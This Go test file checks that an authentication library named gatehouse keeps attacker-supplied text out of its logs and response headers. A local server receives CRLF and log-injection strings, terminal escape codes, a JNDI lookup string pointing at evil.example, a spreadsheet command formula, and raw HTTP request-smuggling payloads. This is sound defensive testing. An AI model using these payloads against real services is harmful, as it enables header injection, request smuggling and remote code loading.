package attack_test

import (
	"bufio"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/gatehouse-auth/gatehouse"
)

// inTwoLines are texts that want to be a line of their own, in a log or in a
// header, or to write over one in a terminal. All tell of themselves by a word.
var inTwoLines = []string{
	"x\r\nSet-Cookie: injected=1", "x\nlevel=ERROR msg=injected", "x\rinjected", "x\n{\"level\":\"ERROR\",\"msg\":\"injected\"}", "x\x00injected", "x\x0binjected", "x\x0cinjected",
	"x\u0085injected", "x\u2028injected", "x\u2029injected", "\x1b[2J\x1b[1;31minjected\x1b[0m", "\x1b]0;injected\x07", "\x1b]8;;http://evil.example\x1b\\injected", "\u009b31minjected",
	"\u202einjected\u202c", "\u2066injected\u2069", "\x08\x08\x08\x08injected", "\x7finjected", "%0d%0aSet-Cookie:%20injected=1", "%E5%98%8A%E5%98%8Dinjected", "\u560a\u560dinjected",
	`x" level=ERROR msg="injected`, `x","level":"ERROR","msg":"injected`, "${jndi:ldap://evil.example/injected}", "%s%n%x%d injected %!", "x\\ninjected", "\xff\xfeinjected", "\xc0\x8ainjected",
	"=cmd|' /C injected'!A0", strings.Repeat("injected ", 500), "x time=2026-01-01T00:00:00Z level=INFO msg=injected",
}

// lineRequests bring a text in by every way that a request has.
func lineRequests(d dialect, token string, jar map[string]string, text string) map[string]request {
	escaped := url.QueryEscape(text)
	inBody, _ := json.Marshal(text)
	all := map[string]request{
		"segment":  {http.MethodGet, d.base + "/signin/" + url.PathEscape(text), "", "", nil, nil},
		"provider": {http.MethodPost, d.base + "/callback/" + url.PathEscape(text), formType, "x=y", nil, nil},
		"address":  {http.MethodGet, d.base + "/" + url.PathEscape(text), "", "", nil, nil},
		"query":    {http.MethodGet, d.base + "/signin?error=" + escaped + "&" + escaped + "=" + escaped + "&lang=" + escaped + "&code=" + escaped, "", "", nil, nil},
		"callback": {http.MethodPost, d.base + "/signout?callbackUrl=" + url.QueryEscape("/"+text), formType, "csrfToken=" + token + "&callbackUrl=" + escaped, nil, jar},
		"a form's identifier": {http.MethodPost, d.base + "/callback/credentials", formType,
			"csrfToken=" + token + "&identifier=" + escaped + "&password=" + escaped, nil, jar},
		"a hosted form's": {http.MethodPost, d.base + "/signup", formType, "csrfToken=" + token + "&identifier=" + escaped + "&name=" + escaped + "&password=x&invitationCode=" + escaped, nil, jar},
		"JSON":            {http.MethodPost, d.base + "/login", jsonType, `{"identifier":` + string(inBody) + `,"password":""}`, nil, nil},
		"a JSON name":     {http.MethodPost, d.base + "/register", jsonType, `{` + string(inBody) + `:1,"identifier":` + string(inBody) + `,"name":` + string(inBody) + `,"password":"x"}`, nil, nil},
		"the beacon":      {http.MethodPost, d.base + "/_log", jsonType, `{"message":` + string(inBody) + `}`, nil, nil},
		"a type":          {http.MethodPost, d.base + "/login", jsonType + "; x=" + text, "{}", nil, nil},
		"a method":        {text, d.base + "/session", "", "", nil, nil},
		"cookies": {http.MethodGet, d.base + "/session", "", "", nil, map[string]string{
			d.session(): escaped, d.stem + "csrf-token": escaped, d.stem + "callback-url": escaped, d.stem + "attempt": text, d.stem + "known": text, text: text, d.session() + text: text}},
	}
	header := http.Header{}
	for _, name := range []string{
		"User-Agent", "Referer", "Origin", "Accept", "Accept-Language", "X-Request-Id", "X-Correlation-Id", "Traceparent", "Tracestate", "Baggage", "X-Forwarded-For", "X-Real-Ip",
		"Forwarded", "X-Forwarded-Host", "Host", "Authorization", "X-Auth-Return-Redirect", "Sec-Fetch-Site", "Sec-Fetch-Mode", "Content-Encoding", "Via", "From", text,
	} {
		header[name] = []string{text}
	}
	all["headers"] = request{http.MethodGet, d.base + "/signin", "", "", header, nil}
	all["headers of a post"] = request{http.MethodPost, d.base + "/login", jsonType, `{"identifier":"x"}`, header, nil}
	return all
}

// hostile says whether the text could be more than one line, or more than text,
// to whoever reads it in a terminal.
func hostile(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029' || r == unicode.ReplacementChar
}

// proves: ASVS 16.4.1, ASVS 16.2.5
func TestLines_nothingSentMakesALineOfItsOwn(t *testing.T) {
	for name, handler := range map[string]func(w io.Writer) slog.Handler{
		"text": func(w io.Writer) slog.Handler { return slog.NewTextHandler(w, nil) },
		"JSON": func(w io.Writer) slog.Handler { return slog.NewJSONHandler(w, nil) },
	} {
		log := &logbook{}
		s := newSite(t, func(c *gatehouse.Config) { c.Logger = slog.New(handler(log)) })
		sent := 0
		for _, d := range dialects {
			b := s.browser(d)
			token := b.token()
			for _, text := range inTwoLines {
				for door, q := range lineRequests(d, token, b.jar, text) {
					a := s.send(q)
					if a.header == nil {
						continue // net/http refuses the address
					}
					if sent++; a.status >= 500 {
						t.Errorf("%s, %.40q in the %s: status %d", d, text, door, a.status)
					}
					for key, values := range a.header {
						// A callback URL of our own origin may name anything, escaped.
						plain := strings.Join(values, "\n")
						if strings.ContainsFunc(strings.ReplaceAll(plain, "\n", ""), hostile) && key != "Location" || strings.ContainsAny(strings.Join(values, ""), "\r\n\x00") {
							t.Errorf("%s, %.40q in the %s: a header %s: %q", d, text, door, key, plain)
						}
						if key == "Injected" || strings.Contains(plain, "injected=1;") {
							t.Errorf("%s, %.40q in the %s: a header was injected: %s: %q", d, text, door, key, plain)
						}
					}
				}
			}
		}
		lines := 0
		for line := range strings.Lines(log.String()) {
			lines++
			line = strings.TrimSuffix(line, "\n")
			var in map[string]any
			switch {
			case strings.Contains(line, "injected"):
				t.Errorf("%s: what was sent is in the log: %.300q", name, line)
			case strings.ContainsFunc(line, hostile):
				t.Errorf("%s: a line that is no plain text: %.300q", name, line)
			case name == "JSON" && (json.Unmarshal([]byte(line), &in) != nil || in["msg"] == nil || in["time"] == nil):
				t.Errorf("no JSON: %.300q", line)
			case name == "text" && !strings.HasPrefix(line, "time="):
				t.Errorf("a line of its own: %.300q", line)
			}
		}
		if sent < 500 || lines < sent {
			t.Errorf("%s: %d lines of %d requests; the test looks at the wrong thing", name, lines, sent)
		}
	}
}

// The text of a browser is shown to its owner and to operators, in a terminal
// too: it is kept as one line of plain text.
//
// proves: ASVS 16.4.1, ASVS 1.3.3
func TestLines_theBrowsersNameIsPlainText(t *testing.T) {
	s := newSite(t, nil)
	u := s.newUser(t, "ann@app.example")
	all := strings.Join(inTwoLines[:20], " ")
	a := s.send(request{http.MethodPost, v4.base + "/login", jsonType, `{"identifier":"ann@app.example","password":"` + password + `"}`,
		http.Header{"User-Agent": {"Control/1 " + all}}, nil})
	if !a.beginsSession() {
		t.Fatalf("sign in: %d %s", a.status, a.body)
	}
	list, err := s.Users().Sessions(t.Context(), u.ID)
	if err != nil || len(list) != 1 {
		t.Fatalf("%d sessions, %v", len(list), err)
	}
	if got := list[0].UserAgent; !strings.HasPrefix(got, "Control/1 x") || strings.ContainsFunc(got, hostile) || len(got) > 255 {
		t.Errorf("the browser is kept as %q", got)
	}
}

// Over a real connection, with what no client would send: the answer has the
// headers that it has, and the server answers one request once.
func TestLines_rawRequestsGetOneAnswerOfOurs(t *testing.T) {
	s := newSite(t, nil)
	server := httptest.NewUnstartedServer(s.Handler())
	server.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelDebug)
	server.Start()
	defer server.Close()
	smuggled := "GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\n\r\n"
	for what, c := range map[string]struct {
		text    string
		answers int // how many a connection may bring
	}{
		"the control":                  {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"the control: two in a row":    {strings.Repeat("GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\n\r\n", 2), 2},
		"a line break in the path":     {"GET /api/auth/csrf\r\nSet-Cookie: injected=1 HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"a line feed in the path":      {"GET /api/auth/signin?callbackUrl=/x\nInjected: 1 HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"NUL in the path":              {"GET /api/auth/\x00injected HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"an escape in the path":        {"GET /api/auth/\x1b[31minjected HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"bytes in the query":           {"GET /api/auth/signin?callbackUrl=/\xff\xfe&error=\xc0\x8d\xc0\x8ainjected HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"CR in a header":               {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\nUser-Agent: a\rInjected: 1\r\n\r\n", 1},
		"NUL in a header":              {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\nUser-Agent: a\x00injected\r\n\r\n", 1},
		"a header folded":              {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\nX: a\r\n\tinjected\r\n\r\n", 1},
		"a header without a name":      {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\n: injected\r\n\r\n", 1},
		"a method of its own":          {"GET\x1b[2J /api/auth/csrf HTTP/1.1\r\nHost: x\r\n\r\n", 1},
		"another version":              {"GET /api/auth/csrf HTTP/9.9\r\nHost: x\r\n\r\n", 1},
		"two lengths":                  {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 43\r\n\r\n" + smuggled, 1},
		"a length and chunks":          {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled, 2},
		"a coding that is none":        {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled, 1},
		"a coding twice":               {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + smuggled, 1},
		"a length with a sign":         {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: +43\r\n\r\n" + smuggled, 1},
		"a length of two numbers":      {"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 43, 43\r\n\r\n" + smuggled, 1},
		"a body with GET":              {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\nContent-Length: 43\r\n\r\n" + smuggled, 1},
		"a body with HEAD":             {"HEAD /api/auth/csrf HTTP/1.1\r\nHost: x\r\nContent-Length: 43\r\n\r\n" + smuggled, 1},
		"a connection of another kind": {"GET /api/auth/csrf HTTP/1.1\r\nHost: x\r\nConnection: upgrade, x-injected\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n", 1},
	} {
		text := exchange(t, server.Listener.Addr().String(), c.text)
		if got := strings.Count(text, "HTTP/1."); got < 1 || got > c.answers {
			t.Errorf("%s: %d answers, want at most %d:\n%.600s", what, got, c.answers, text)
		}
		for rest, end := text, false; !end; {
			var head string
			head, rest, end = strings.Cut(rest, "\r\n\r\n")
			end = !end
			if strings.HasPrefix(head, "HTTP/1.") && strings.Contains(strings.ToLower(head), "injected") {
				t.Errorf("%s: in the header of the answer:\n%s", what, head)
			}
		}
		if strings.Contains(text, "\x1b") || strings.Contains(text, "\x00") {
			t.Errorf("%s: the answer has what no text has: %.300q", what, text)
		}
	}
	s.log.clean(t)
}

// exchange writes and reads until the server says no more.
func exchange(t *testing.T, address, text string) string {
	t.Helper()
	c, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	_, _ = io.WriteString(c, text)
	_ = c.(*net.TCPConn).CloseWrite()
	all, _ := io.ReadAll(bufio.NewReader(c))
	return string(all)
}
